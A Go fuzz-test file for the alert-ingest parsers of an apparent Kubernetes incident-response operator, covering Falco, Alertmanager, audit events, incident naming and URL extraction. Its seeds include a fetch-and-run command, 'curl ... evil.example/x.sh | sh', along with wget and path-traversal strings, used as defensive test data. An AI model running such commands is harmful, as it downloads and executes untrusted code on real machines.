package ingest

import (
	"testing"
	"time"
	"unicode/utf8"

	"github.com/fido-operator/fido/internal/audit"
)

// fuzzParser checks that a parser never panics and that whatever it
// accepts is within the Incident CRD's bounds.
func fuzzParser(f *testing.F, parse func([]byte, time.Time) ([]*Alert, error), seeds ...[]byte) {
	f.Helper()
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		alerts, err := parse(body, testNow)
		if err != nil {
			return
		}
		if len(alerts) == 0 || len(alerts) > MaxBatch {
			t.Fatalf("accepted %d alerts", len(alerts))
		}
		for _, a := range alerts {
			checkCRDBounds(t, a)
			if !utf8.ValidString(a.Rule) || !utf8.ValidString(a.Summary) {
				t.Fatalf("invalid UTF-8 kept: %q", a.Rule)
			}
		}
	})
}

func FuzzParseFalco(f *testing.F) {
	fuzzParser(f, ParseFalco, fixture(f, "falco_shell.json"), fixture(f, "falcosidekick_outbound.json"), fixture(f, "falco_audit.json"),
		[]byte(`{"rule":"r","priority":"debug","hostname":"H","output_fields":{"fd.rip":"::1","proc.cmdline":"wget HTTP://x.y/z"}}`))
}

func FuzzParseAlertmanager(f *testing.F) {
	fuzzParser(f, ParseAlertmanager, fixture(f, "alertmanager_group.json"),
		[]byte(`{"version":"4","alerts":[{"status":"firing","labels":{"alertname":"A","instance":"[::1]:80","ip":"1.2.3.4"}}]}`))
}

func FuzzParseGeneric(f *testing.F) {
	fuzzParser(f, ParseGeneric, fixture(f, "generic_pod.json"),
		[]byte(`{"detector":"d","rule":"r","priority":"info","subject":{"user":"u"},"fields":{"a":1}}`))
}

func FuzzIncidentName(f *testing.F) {
	f.Add("falco", "Terminal shell in container", "Pod/shop/web-1")
	f.Add("", "../../\n", "")
	f.Add("ÄÖÜ", "🚨", "x")
	f.Fuzz(func(t *testing.T, detector, rule, identity string) {
		name := IncidentName(detector, rule, Fingerprint(detector, rule, identity))
		longest := GenerationName(name, maxGenerations)
		if len(longest) > 63 || !dns1123Label.MatchString(longest) || !dns1123Label.MatchString(name) {
			t.Fatalf("unsafe name %q", longest)
		}
		if name != IncidentName(detector, rule, Fingerprint(detector, rule, identity)) {
			t.Fatal("name is not deterministic")
		}
	})
}

func FuzzFindURLs(f *testing.F) {
	f.Add("curl -s http://evil.example/x.sh | sh; wget https://a.b/c")
	f.Add("HTTP://İ")
	f.Fuzz(func(t *testing.T, text string) {
		urls := findURLs(text)
		if len(urls) > MaxIndicators {
			t.Fatalf("%d urls", len(urls))
		}
		for _, u := range urls {
			if _, ok := parseURL(u); !ok {
				t.Fatalf("invalid url %q returned", u)
			}
		}
	})
}

// FuzzAudit feeds arbitrary bodies to the audit endpoint's parser and
// matcher: no panic, and every alert it returns is valid.
func FuzzAudit(f *testing.F) {
	f.Add(auditList(bindingEvent("f-1", "ResponseComplete")))
	f.Add([]byte(`{"items":[{"auditID":"x","stage":"Panic","impersonatedUser":{"username":"system:serviceaccount:a:b"},"objectRef":{"resource":"pods","namespace":"A_B","name":"` + "\u2028" + `"}}]}`))
	f.Add([]byte(`{"items":[{"auditID":"x","stage":"ResponseComplete","requestObject":"not an object","sourceIPs":["::1","nope"]}]}`))
	s := &Server{opts: Options{AuditRules: bindingRule(f)}, activity: audit.NewActivity()}
	f.Fuzz(func(t *testing.T, body []byte) {
		alerts, err := s.parseAudit(body, time.Now())
		if err != nil {
			return
		}
		for _, a := range alerts {
			if err := a.validate(); err != nil {
				t.Fatalf("invalid alert %+v: %v", a, err)
			}
		}
	})
}
